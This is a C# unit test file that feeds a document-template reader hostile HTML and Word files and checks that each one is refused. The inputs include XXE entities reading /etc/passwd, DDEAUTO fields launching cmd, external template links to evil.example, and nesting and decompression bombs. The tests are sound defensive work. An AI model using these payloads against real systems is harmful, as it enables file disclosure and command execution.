using System.IO.Compression;
using System.Text;
using Homeward.Domain.Papers;
using Homeward.Web.Features.Papers.OwnTemplates;
using Homeward.Web.Features.Papers.Rendering;

namespace Homeward.Web.Tests.Papers;

/// <summary>Templates made to do harm: each is refused in a moment, none brings the process down, loads or runs anything.</summary>
public class HostileTemplateTests
{
    const int Full = TakeTemplate.MostBytes;
    const string Words = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    const string Plain = "<w:p><w:r><w:t>{{number}}</w:t></w:r></w:p>";

    static readonly IReadOnlySet<string> known = Placeholders.Of(PaperKind.Agreement);
    static readonly TimeSpan moment = TimeSpan.FromSeconds(20);

    [Theory]
    [InlineData("<p")]
    [InlineData("<p ")]
    [InlineData("<p '")]
    [InlineData("<p \"'")]
    [InlineData("<!doctype")]
    [InlineData("<!--")]
    [InlineData("{{ ")]
    [InlineData("{{number")]
    [InlineData("<p a ")]
    [InlineData("<p>{{number}}</p><b>")]
    public async Task A_full_file_of_beginnings_is_read_in_a_moment(string piece) =>
        await ReadAsync(string.Concat(Enumerable.Repeat(piece, Full / piece.Length)));

    [Theory]
    [InlineData("<p {0}>x</p>")]
    [InlineData("<p {0}=1>x</p>")]
    [InlineData("<p class={0}>x</p>")]
    [InlineData("<{0}>x</{0}>")]
    public async Task An_endless_name_or_attribute_is_refused_in_a_moment(string template) =>
        Assert.NotEmpty((await ReadAsync(template.Replace("{0}", new string('a', Full / 2), StringComparison.Ordinal))).Faults);

    [Theory]
    [InlineData("<p class=\"{{number}}\">x</p>")]
    [InlineData("<{{number}}>x</{{number}}>")]
    [InlineData("<p {{number}}>x</p>")]
    [InlineData("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><p>&e;</p>")]
    [InlineData("<p>x</p><?xml-stylesheet href=\"http://x\"?>")]
    [InlineData("<svg><p>x</p></svg>")]
    public async Task A_placeholder_in_a_tag_and_anything_but_text_is_refused(string html) => Assert.NotEmpty((await ReadAsync(html)).Faults);

    [Fact]
    public void A_plain_file_is_taken() => Assert.Empty(DocxReader.Read(Docx(), known).Faults);

    [Fact]
    public void What_nests_without_end_is_refused_and_the_process_lives()
    {
        const int Deep = 60_000;
        var nested = string.Concat(Enumerable.Repeat("<w:smartTag>", Deep)) + string.Concat(Enumerable.Repeat("</w:smartTag>", Deep));

        Assert.Equal([DocxReader.Unreadable.Code], Codes(Docx(body: $"<w:p>{nested}</w:p>")));
        Assert.Equal([DocxReader.Unreadable.Code], Codes(Docx(more: [("word/settings.xml", $"<w:settings xmlns:w='{Words}'>{nested}</w:settings>")])));
    }

    [Theory]
    [InlineData("word/document.xml")]
    [InlineData("word/media/filler.bin")]
    [InlineData("[Content_Types].xml")]
    public void What_bursts_is_refused(string part) => Assert.Equal([DocxReader.Unreadable.Code], Codes(Docx(more: [(part, new string(' ', 20 << 20))])));

    [Fact]
    public void A_definition_of_its_own_is_refused_unread() =>
        Assert.Equal([DocxReader.Unreadable.Code], Codes(Docx(prologue: "<!DOCTYPE w [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", body: "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>")));

    [Fact]
    public void A_file_of_very_many_parts_is_refused() =>
        Assert.Equal([DocxReader.Unreadable.Code], Codes(Docx(more: [.. Enumerable.Range(0, 1_000).Select(nth => ($"word/{nth}.xml", "<x/>"))])));

    [Theory]
    [InlineData("attachedTemplate", "settings", "<w:attachedTemplate r:id='rX'/>")]
    [InlineData("image", "settings", "")]
    [InlineData("hyperlink", "settings", "")]
    public void What_leads_elsewhere_is_refused(string kind, string part, string inside) => Assert.Contains(TemplateFault.Runs.Code, Codes(Docx(more:
    [
        ("word/settings.xml", $"<w:settings xmlns:w='{Words}' xmlns:r='{Office}'>{inside}</w:settings>"),
        ($"word/_rels/{part}.xml.rels", $"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='rX' Type='{Office}/{kind}' Target='http://evil.example/x' TargetMode='External'/></Relationships>"),
    ])));

    [Fact]
    public void A_mail_merge_that_asks_a_database_is_refused() => Assert.Contains(TemplateFault.Runs.Code, Codes(Docx(more:
        [("word/settings.xml", $"<w:settings xmlns:w='{Words}'><w:mailMerge><w:mainDocumentType w:val='formLetters'/><w:dataType w:val='native'/><w:connectString w:val='Provider=x'/><w:query w:val='SELECT 1'/></w:mailMerge></w:settings>")])));

    [Theory]
    [InlineData("<w:p><w:fldSimple w:instr='DDEAUTO cmd \"/k calc\"'/></w:p>")]
    [InlineData("<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>")]
    [InlineData("<w:p><w:r><w:object/></w:r></w:p>")]
    public void A_field_or_an_object_is_refused_in_the_text_and_around_it(string paragraph)
    {
        Assert.NotEmpty(Codes(Docx(body: paragraph)));
        Assert.NotEmpty(Codes(Docx(header: paragraph)));
    }

    static List<string> Codes(byte[] docx) => [.. DocxReader.Read(docx, known).Faults.Select(fault => fault.Code)];

    static async Task<(PaperDocument Document, IReadOnlyList<TemplateFault> Faults)> ReadAsync(string html) =>
        await Task.Run(() => TemplateReader.Read(html, known), TestContext.Current.CancellationToken).WaitAsync(moment, TestContext.Current.CancellationToken);

    /// <summary>A word processor's file written part by part, so that it can be wrong anywhere.</summary>
    static byte[] Docx(string body = Plain, string prologue = "", string? header = null, (string Name, string Text)[]? more = null)
    {
        var parts = new Dictionary<string, string>
        {
            ["[Content_Types].xml"] = """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/octet-stream"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>""",
            ["_rels/.rels"] = $"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1' Type='{Office}/officeDocument' Target='word/document.xml'/></Relationships>",
            ["word/document.xml"] = $"{prologue}<w:document xmlns:w='{Words}'><w:body>{body}</w:body></w:document>",
            ["word/_rels/document.xml.rels"] = $"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1' Type='{Office}/settings' Target='settings.xml'/><Relationship Id='r2' Type='{Office}/header' Target='header1.xml'/></Relationships>",
            ["word/settings.xml"] = $"<w:settings xmlns:w='{Words}'/>",
            ["word/header1.xml"] = $"<w:hdr xmlns:w='{Words}'>{header}</w:hdr>",
        };
        foreach (var (name, text) in more ?? [])
        {
            parts[name] = text;
        }
        using var memory = new MemoryStream();
        using (var archive = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in parts)
            {
                using var stream = archive.CreateEntry(name).Open();
                stream.Write(Encoding.UTF8.GetBytes(text));
            }
        }
        return memory.ToArray();
    }
}
